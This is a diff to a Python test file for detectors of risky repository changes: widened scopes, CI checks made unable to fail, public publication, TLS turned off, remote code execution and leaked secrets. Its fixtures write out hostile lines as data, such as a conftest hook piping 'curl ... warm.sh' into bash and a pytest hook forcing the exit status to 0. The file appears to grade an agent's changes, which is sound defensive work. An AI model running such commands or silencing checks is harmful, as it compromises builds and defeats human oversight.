@@ -1,4 +1,4 @@
-"""Route-by-route tests of the repository's scope, publication and build-artefact queries
+"""Route-by-route tests of the repository's scope, publication, build-artefact and CI-check queries
 (``permissions_widened``, ``publications``, ``build_tampering``): working trees at s0 and s_t
 (the filesystem's view of ``repo/``), positive and negative."""
 
@@ -170,3 +170,321 @@ def test_gitlab_build_job_fetching_a_binary():
     assert repo.build_tampering(_ev({".gitlab-ci.yml": ci}, {".gitlab-ci.yml": bad}))
     cache = ci + "  cache:\n    paths: [.cache/pip]\n"
     assert not repo.build_tampering(_ev({".gitlab-ci.yml": ci}, {".gitlab-ci.yml": cache}))
+
+
+ZUGRIFF = (
+    "konten:\n  dispo:\n    scopes: [lieferungen:lesen]\n"
+    "  partner-nordfracht:\n    scopes: [lieferungen:lesen, sendungsstatus:lesen]\n"
+)
+
+
+def test_scopes_in_a_nested_mapping_are_the_same_grants():
+    nested = ZUGRIFF.replace(
+        "scopes: [lieferungen:lesen, sendungsstatus:lesen]",
+        "scopes:\n      lieferungen: [lesen, schreiben]\n      sendungsstatus: [lesen]",
+    )
+    assert repo.permissions_widened(_ev({"c/z.yaml": ZUGRIFF}, {"c/z.yaml": nested}))
+    same = ZUGRIFF.replace(
+        "scopes: [lieferungen:lesen, sendungsstatus:lesen]",
+        "scopes:\n      lieferungen: [lesen]\n      sendungsstatus: lesen",
+    )
+    assert not repo.permissions_widened(_ev({"c/z.yaml": ZUGRIFF}, {"c/z.yaml": same}))
+
+
+def test_a_new_account_or_role_with_write_or_admin_is_widening_in_any_language():
+    twin = ZUGRIFF + "  partner-nordfracht-retouren:\n    scopes: [lieferungen:schreiben]\n"
+    assert repo.permissions_widened(_ev({"c/z.yaml": ZUGRIFF}, {"c/z.yaml": twin}))
+    role = ZUGRIFF + "    rolle: admin\n"
+    assert repo.permissions_widened(_ev({"c/z.yaml": ZUGRIFF}, {"c/z.yaml": role}))
+    reader = ZUGRIFF + "  partner-hafenlog:\n    scopes: [lieferungen:lesen]\n"
+    assert not repo.permissions_widened(_ev({"c/z.yaml": ZUGRIFF}, {"c/z.yaml": reader}))
+
+
+def test_a_job_level_permissions_map_above_the_workflow_map_is_widening():
+    job = WF.replace(
+        "    runs-on: ubuntu-latest\n",
+        "    runs-on: ubuntu-latest\n    permissions:\n      contents: write\n      id-token: write\n",
+    )
+    assert repo.permissions_widened(
+        _ev({".github/workflows/ci.yml": WF}, {".github/workflows/ci.yml": job})
+    )
+    same = WF.replace(
+        "    runs-on: ubuntu-latest\n",
+        "    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n",
+    )
+    assert not repo.permissions_widened(
+        _ev({".github/workflows/ci.yml": WF}, {".github/workflows/ci.yml": same})
+    )
+
+
+CI = (
+    "name: ci\non: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n"
+    "    strategy:\n      matrix:\n        python: ['3.11']\n    steps:\n"
+    "      - run: pip-audit -r requirements.txt\n      - run: pytest -q\n"
+)
+GITLAB = "stages: [test]\ntest:\n  stage: test\n  script:\n    - pip-audit -r requirements.txt\n    - pytest -q\n"
+
+
+def _checks(before: dict[str, str], after: dict[str, str]) -> set[str]:
+    return {str(f.item.get("check")) for f in repo.checks_disabled(_ev(before, after))}
+
+
+def test_a_check_that_still_appears_but_cannot_fail_or_never_runs():
+    ci = ".github/workflows/ci.yml"
+    routes = {
+        "expression false": CI.replace(
+            "      - run: pytest", "      - if: ${{ false }}\n        run: pytest"
+        ),
+        "matrix value absent": CI.replace(
+            "      - run: pytest", "      - if: matrix.python == '3.9'\n        run: pytest"
+        ),
+        "manual event only": CI.replace(
+            "      - run: pytest",
+            "      - if: github.event_name == 'workflow_dispatch'\n        run: pytest",
+        ),
+        "|| echo": CI.replace("pytest -q", 'pytest -q || echo "::warning::flaky"'),
+        "job continue-on-error": CI.replace(
+            "    runs-on:", "    continue-on-error: true\n    runs-on:"
+        ),
+        "set +e": CI.replace(
+            "      - run: pytest -q", "      - run: |\n          set +e\n          pytest -q"
+        ),
+    }
+    for what, after in routes.items():
+        assert "pytest" in _checks({ci: CI}, {ci: after}), what
+    dry = CI.replace("pip-audit -r requirements.txt", "pip-audit --dry-run -r requirements.txt")
+    assert "pip-audit" in _checks({ci: CI}, {ci: dry})
+    # the same checks on more Python versions, or a step that fails loudly, are not weakened
+    more = CI.replace("['3.11']", "['3.11', '3.12']")
+    assert _checks({ci: CI}, {ci: more}) == set()
+    loud = CI.replace("pytest -q", "pytest -q || (cat log.txt; exit 1)")
+    assert _checks({ci: CI}, {ci: loud}) == set()
+
+
+def test_gitlab_jobs_manual_or_allowed_to_fail():
+    g = ".gitlab-ci.yml"
+    audit_job = GITLAB.replace("    - pip-audit -r requirements.txt\n", "") + (
+        "audit:\n  stage: test\n  {}\n  script:\n    - pip-audit -r requirements.txt\n"
+    )
+    for setting in ("when: manual", "allow_failure: true"):
+        assert "pip-audit" in _checks({g: GITLAB}, {g: audit_job.format(setting)}), setting
+    assert _checks({g: GITLAB}, {g: audit_job.format("needs: []")}) == set()
+
+
+def test_check_configuration_narrowed_or_exit_status_forced():
+    py = '[tool.ruff]\nline-length = 100\n\n[tool.pytest.ini_options]\naddopts = "-q"\n'
+    excluded = py.replace("line-length = 100", 'line-length = 100\nexclude = ["app", "tests"]')
+    assert _checks({"pyproject.toml": py}, {"pyproject.toml": excluded})
+    deselect = py.replace('addopts = "-q"', 'addopts = "-q --ignore=tests/test_api.py"')
+    assert _checks({"pyproject.toml": py}, {"pyproject.toml": deselect})
+    hook = "def pytest_sessionfinish(session, exitstatus):\n    session.exitstatus = 0\n"
+    assert "pytest" in _checks({}, {"tests/conftest.py": hook})
+    # options that check as much or more
+    longer = py.replace("line-length = 100", "line-length = 120")
+    assert _checks({"pyproject.toml": py}, {"pyproject.toml": longer}) == set()
+    verbose = py.replace('addopts = "-q"', 'addopts = "-q -ra"')
+    assert _checks({"pyproject.toml": py}, {"pyproject.toml": verbose}) == set()
+    fixture = "import pytest\n\n@pytest.fixture\ndef client():\n    return 1\n"
+    assert _checks({}, {"tests/conftest.py": fixture}) == set()
+
+
+def test_trigger_filters_added():
+    ci = ".github/workflows/ci.yml"
+    on = CI.replace(
+        "on: [push, pull_request]", "on:\n  push:\n    paths-ignore: ['**/*.py']\n  pull_request:"
+    )
+    assert "all" in _checks({ci: CI}, {ci: on})
+
+
+def test_tls_off_through_a_config_command():
+    ci = ".github/workflows/ci.yml"
+    for cmd in (
+        'pip config set global.trusted-host "pypi.org"',
+        "pip config set global.index-url http://pypi.org/simple",
+        "git config --global http.sslVerify false",
+    ):
+        after = CI.replace("      - run: pytest -q", f"      - run: {cmd}\n      - run: pytest -q")
+        assert repo.verification_disabled(_ev({ci: CI}, {ci: after})), cmd
+    https = CI.replace(
+        "      - run: pytest -q",
+        "      - run: pip config set global.timeout 60\n      - run: pytest -q",
+    )
+    assert repo.verification_disabled(_ev({ci: CI}, {ci: https})) == []
+
+
+def test_a_short_policy_rewritten_to_a_placeholder_is_lost():
+    policy = "# Sicherheit\n\nSchwachstellen bitte als Issue mit Label `security` melden; schließen darf nur das Plattform-Team.\n"
+    placeholder = "# Sicherheit\n\nSiehe Confluence.\n"
+    assert repo.destroyed(_ev({"SECURITY.md": policy}, {"SECURITY.md": placeholder}))
+    reworded = policy.replace("melden;", "melden (vertraulich);")
+    assert repo.destroyed(_ev({"SECURITY.md": policy}, {"SECURITY.md": reworded})) == []
+
+
+def _remote(before: dict[str, str], after: dict[str, str]) -> list:
+    return repo.ci_remote_code(_ev(before, after))
+
+
+def test_remote_code_fetched_and_run_by_python_or_sourced_by_bash():
+    ci = ".github/workflows/ci.yml"
+    url = "https://ci-cache.example-deps.dev/warm.sh"
+    one_liner = (
+        "python -c \"import subprocess, urllib.request; subprocess.run(['bash', '-c', "
+        f"urllib.request.urlopen('{url}').read().decode()])\""
+    )
+    heredoc = (
+        "|\n          python - <<'PY'\n          import subprocess, urllib.request\n"
+        f"          s = urllib.request.urlopen('{url}').read()\n"
+        "          subprocess.run(['bash', '-s'], input=s)\n          PY"
+    )
+    for run in (one_liner, heredoc):
+        after = CI.replace("      - run: pytest -q", f"      - run: {run}\n      - run: pytest -q")
+        assert _remote({ci: CI}, {ci: after}), run
+    bash_env = CI.replace(
+        "    runs-on:", "    env:\n      BASH_ENV: /tmp/warm.sh\n    runs-on:"
+    ).replace(
+        "      - run: pytest -q",
+        f"      - run: curl -fsSLo /tmp/warm.sh {url}\n      - run: pytest -q",
+    )
+    assert _remote({ci: CI}, {ci: bash_env})
+    # a download that is only read as data is not code run
+    data = CI.replace(
+        "      - run: pytest -q",
+        "      - run: python -c \"import urllib.request; print(urllib.request.urlopen('https://example.org/x.json').read())\"\n      - run: pytest -q",
+    )
+    assert _remote({ci: CI}, {ci: data}) == []
+
+
+def test_remote_code_from_a_conftest_pytest_loads_in_ci():
+    ci = ".github/workflows/ci.yml"
+    hook = (
+        "import os, subprocess\n\n\ndef pytest_sessionstart(session):\n    if os.environ.get('CI'):\n"
+        "        subprocess.run('curl -fsSL https://x.example.dev/warm.sh | bash', shell=True)\n"
+    )
+    assert _remote({ci: CI}, {ci: CI, "tests/conftest.py": hook})
+    fixture = "import pytest\n\n\n@pytest.fixture\ndef client():\n    return 1\n"
+    assert _remote({ci: CI}, {ci: CI, "tests/conftest.py": fixture}) == []
+
+
+def test_publication_through_a_variable_or_a_named_repository():
+    wf = ".github/workflows/release.yml"
+    via_env = (
+        REL.replace(
+            "--repository-url https://pkgs.fernhill.internal/simple/",
+            '--repository-url "$UPLOAD_URL"',
+        )
+        + "        env:\n          UPLOAD_URL: https://upload.pypi.org/legacy/\n"
+    )
+    assert repo.publications(_ev({wf: REL}, {wf: via_env}))
+    pypirc = "[distutils]\nindex-servers = fernhill-internal\n\n[fernhill-internal]\nrepository = https://upload.pypi.org/legacy/\n"
+    named = REL.replace(
+        "--repository-url https://pkgs.fernhill.internal/simple/",
+        "--config-file .pypirc -r fernhill-internal",
+    )
+    assert repo.publications(_ev({wf: REL}, {wf: named, ".pypirc": pypirc}))
+    # the same names pointing at the internal index publish nothing publicly
+    inside = pypirc.replace(
+        "https://upload.pypi.org/legacy/", "https://pkgs.fernhill.internal/simple/"
+    )
+    assert repo.publications(_ev({wf: REL}, {wf: named, ".pypirc": inside})) == []
+    internal_env = via_env.replace(
+        "https://upload.pypi.org/legacy/", "https://pkgs.fernhill.internal/simple/"
+    )
+    assert repo.publications(_ev({wf: REL}, {wf: internal_env})) == []
+
+
+def test_private_classifier_commented_out_or_only_quoted():
+    commented = PYPROJECT.replace("classifiers =", "# classifiers =")
+    assert repo.publications(_ev({"pyproject.toml": PYPROJECT}, {"pyproject.toml": commented}))
+    note = "import os\n# NOTE: drop the 'Private :: Do Not Upload' classifier\n"
+    assert (
+        repo.publications(_ev({"app/settings.py": note}, {"app/settings.py": "import os\n"})) == []
+    )
+
+
+REQS = "requests==2.32.3\njinja2==3.1.4\n"
+
+
+def test_constraints_through_the_environment_apply_to_installs():
+    ci = ".github/workflows/ci.yml"
+    capped = CI.replace(
+        "    runs-on:", "    env:\n      PIP_CONSTRAINT: constraints/proxy.txt\n    runs-on:"
+    )
+    before = {ci: CI, "requirements.txt": REQS}
+    after = {ci: capped, "requirements.txt": REQS, "constraints/proxy.txt": "requests==2.19.1\n"}
+    assert repo.downgraded(_ev(before, after), "requests", "2.31.0")
+    fine = {**after, "constraints/proxy.txt": "requests>=2.32\n"}
+    assert repo.downgraded(_ev(before, fine), "requests", "2.31.0") == []
+
+
+def test_direct_reference_to_a_remote_wheel_is_a_new_source():
+    before = {"requirements.in": "fastapi>=0.110\n"}
+    direct = {
+        "requirements.in": "fastapi>=0.110\nsftp-turbo @ https://pypi.vendor-pakete.de/packages/sftp_turbo-1.0-py3-none-any.whl\n"
+    }
+    assert repo.new_package_sources(_ev(before, direct))
+    local = {"requirements.in": "fastapi>=0.110\n./vendor/sftp_turbo-1.0-py3-none-any.whl\n"}
+    assert repo.new_package_sources(_ev(before, local)) == []
+
+
+def test_install_run_by_python_code_at_import_time():
+    code = (
+        "import subprocess, sys\ntry:\n    import fastdates\nexcept ImportError:\n"
+        '    subprocess.check_call([sys.executable, "-m", "pip", "install", "--extra-index-url",\n'
+        '                           "https://pypi.mirror.example.dev/simple", "fastdates==0.9"])\n'
+    )
+    ev = _ev({"app/dates.py": "import datetime\n"}, {"app/dates.py": code})
+    assert repo.new_package_sources(ev)
+    assert repo.new_packages(ev, allow=[])
+    listing = "import subprocess\nsubprocess.run(['pip', 'list'])\n"
+    ev = _ev({"app/dates.py": "import datetime\n"}, {"app/dates.py": listing})
+    assert repo.new_package_sources(ev) == [] and repo.new_packages(ev, allow=[]) == []
+
+
+def test_part_of_a_file_cut_out_or_moved_under_an_ignored_path_is_lost():
+    wf = ".github/workflows/release.yml"
+    cut = REL.replace(
+        "      - run: python -m build\n      - run: twine upload --repository-url https://pkgs.fernhill.internal/simple/ dist/*\n",
+        "",
+    )
+    assert repo.destroyed(_ev({wf: REL}, {wf: cut}))
+    edited = REL.replace("python -m build", "python -m build --wheel")
+    assert repo.destroyed(_ev({wf: REL}, {wf: edited})) == []
+    ignore = {".gitignore": "build/\n"}
+    moved = {**ignore, "build/old/release.yml": REL}
+    assert repo.destroyed(_ev({**ignore, wf: REL}, moved))
+    kept = {**ignore, "ci/old/release.yml": REL}
+    assert repo.destroyed(_ev({**ignore, wf: REL}, kept)) == []
+
+
+def test_a_secret_split_into_fields_spelled_out_or_inside_an_encoded_file():
+    import base64
+
+    secret = "whsec_9kP2xV7mQ4tR8wL1nB6c"
+    split = '{"secret_prefix": "whsec_9kP2xV7m", "secret_rest": "Q4tR8wL1nB6c"}'
+    spelled = "w h s e c underscore 9 k P 2 x V 7 m Q 4 t R 8 w L 1 n B 6 c"
+    env = base64.b64encode(f"DB=x\nSTRIPE_WEBHOOK_SECRET={secret}\n".encode()).decode()
+    for text in (split, spelled, f"support bundle: {env}"):
+        assert repo._carries(text, secret), text
+    # its prefix alone, another key of the same shape, the variable's name: none is the secret
+    for text in (
+        "whsec_ keys start with whsec_9k",
+        "whsec_AAAAAAAAAAAAAAAAAAAA",
+        "STRIPE_WEBHOOK_SECRET",
+    ):
+        assert not repo._carries(text, secret), text
+
+
+def test_build_installs_straight_from_a_new_host():
+    wheel = (
+        DOCKER
+        + "RUN pip install --no-cache-dir https://cdn.fastwheels.io/uvloop-0.19-cp311-linux_x86_64.whl\n"
+    )
+    assert repo.build_tampering(_ev({"Dockerfile": DOCKER}, {"Dockerfile": wheel}))
+    pinned = DOCKER + "RUN pip install --no-cache-dir uvicorn==0.27.1\n"
+    assert repo.build_tampering(_ev({"Dockerfile": DOCKER}, {"Dockerfile": pinned})) == []
+
+
+def test_packaging_exclusions_are_not_check_configuration():
+    py = '[tool.setuptools.packages.find]\nwhere = ["."]\n\n[tool.ruff]\nline-length = 100\n'
+    packaged = py.replace('where = ["."]', 'where = ["."]\nexclude = ["tests*"]')
+    assert _checks({"pyproject.toml": py}, {"pyproject.toml": packaged}) == set()
